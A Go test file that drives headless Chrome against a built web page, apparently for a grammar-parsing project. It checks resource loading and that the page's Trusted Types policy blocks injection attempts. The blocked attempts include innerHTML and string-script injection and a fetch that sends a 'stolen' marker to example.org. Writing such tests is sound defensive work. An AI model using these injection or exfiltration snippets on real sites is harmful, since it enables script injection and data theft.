package bundle

import (
	"net/http"
	"net/http/httptest"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/ccgscore/ccgscore/build/browser"
	webpage "github.com/ccgscore/ccgscore/web/page"
	"github.com/chromedp/chromedp"
)

// requests serves a built page and counts what is asked for.
type requests struct {
	mu    sync.Mutex
	paths []string
	http.Handler
}

func (r *requests) ServeHTTP(w http.ResponseWriter, request *http.Request) {
	r.mu.Lock()
	r.paths = append(r.paths, request.URL.Path)
	r.mu.Unlock()
	r.Handler.ServeHTTP(w, request)
}

func (r *requests) sorted() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Sorted(slices.Values(r.paths))
}

func serveFixture(t *testing.T) (*requests, string) {
	t.Helper()
	handler, err := webpage.New(os.DirFS(whole(t).out))
	if err != nil {
		t.Fatal(err)
	}
	seen := &requests{Handler: handler}
	server := httptest.NewServer(seen)
	t.Cleanup(server.Close)
	return seen, server.URL
}

func TestThePageRunsUnderItsPolicyAndLoadsEachFileOnce(t *testing.T) {
	seen, url := serveFixture(t)
	ctx, console := browser.Start(t)
	if err := chromedp.Do(ctx, chromedp.Navigate(url), browser.Until(`document.getElementById("answer").textContent !== "waiting"`)); err != nil {
		t.Fatal(err, console.Messages())
	}
	answer, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.getElementById("answer").textContent`))
	if want := `forty-two sleeps_2 S\NP 1 Kim_1 false`; err != nil || answer != want {
		t.Errorf("the wasm answered %q, want %q: %v", answer, want, err)
	}
	if messages := console.Messages(); len(messages) > 0 {
		t.Errorf("in the console: %q", messages)
	}
	// A preload that does not match the later use would be fetched a second time.
	want := []string{"/"}
	for _, s := range whole(t).report.Files {
		if s.OnFirstLoad() && s.Path != indexPath {
			want = append(want, "/"+s.Name)
		}
	}
	if got := seen.sorted(); !slices.Equal(got, want) {
		t.Errorf("asked for %q\nwant      %q", got, want)
	}
}

func TestThePolicyStopsWhatAnInputMightSmuggleIn(t *testing.T) {
	_, url := serveFixture(t)
	ctx, _ := browser.Start(t)
	if err := chromedp.Do(ctx, chromedp.Navigate(url)); err != nil {
		t.Fatal(err)
	}
	for name, script := range map[string]string{
		"markup from a string":   `document.body.innerHTML = "<b>x</b>"`,
		"script from a string":   `document.createElement("script").textContent = "x()"`,
		"a second policy":        `trustedTypes.createPolicy("other", {})`,
		"the same policy again":  `trustedTypes.createPolicy("ccgscore", {})`,
		"a worker from a string": `new Worker("x.js")`,
		"sending elsewhere":      `await fetch("https://example.org/?stolen")`,
		"code from a string":     `setTimeout("x()")`,
	} {
		outcome, err := chromedp.Run(ctx, chromedp.Evaluate[string](
			`(async () => { try { `+script+`; return "allowed" } catch (e) { return e.name } })()`, chromedp.EvalAwaitPromise))
		if err != nil || !strings.HasSuffix(outcome, "Error") {
			t.Errorf("%s: %s %v", name, outcome, err)
		}
	}
}
